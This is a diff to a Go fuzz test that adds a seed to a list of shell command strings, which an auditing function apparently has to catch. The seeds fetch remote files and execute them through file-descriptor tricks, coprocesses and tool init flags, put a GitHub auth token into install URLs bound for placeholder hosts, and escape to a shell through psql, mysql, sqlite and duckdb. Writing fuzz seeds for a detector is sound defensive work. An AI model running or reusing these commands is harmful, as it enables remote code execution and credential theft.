@@ -320,6 +320,7 @@ var fuzzSeeds = [][]string{
 	{"bash", "-c", `curl -o /t/a h://x; exec 3</t/a 5<>/t/a 6<&3 7<&9 8<&-; sh <&3 0<&5; bash /dev/fd/6 --rcfile; bash --init-file=/t/a; source /dev/fd/7; vim -S; nvim -u /t/a; gdb --command=/t/a -ix; exec 3</x; sh <&3`},
 	{"bash", "-c", `T=$(gh auth token); pip3 install "https://h.x/$T?x=$T" https://$T; npm i "h://x/$T"; helm install x https://api.github.com/$T; kubectl apply -f "https://[::1]/$(gh auth token)"; composer require; deno run https://`},
 	{"bash", "-c", `coproc curl h; coproc F { base64 -d; }; coproc G (curl h); coproc ${X} { x; }; sh <&"${COPROC[0]}" <&${F[1]} <&$G <&${G[i]} <&${F:-x}; read A B <&${F[0]}; mapfile M <&$COPROC; eval "$A$M"; coproc F true; sh <&${F[0]}`},
+	{"bash", "-c", "curl -o /t/a h://x; psql -Xqf /t/a -c '\\i /t/a' -c \"\\o |id\\\\ \\g |x \\copy t from program 'a''b' \\set x `id`\" < /t/a; mysql -Ne 'source /t/a; pager less; system id' --pager=x <<< '\\! id'; sqlite3 -lookaside 1 2 -safe db .sh; duckdb -c '.read |id' -init /t/a db '.once -x \"|id\"'; psql <<'E'\n\\! id\nE\nmongosh --eval; mongosh h --eval=x /t/a.js -f"},
 }
 
 // FuzzAudit decodes arbitrary manifests and audits the ones that parse: no
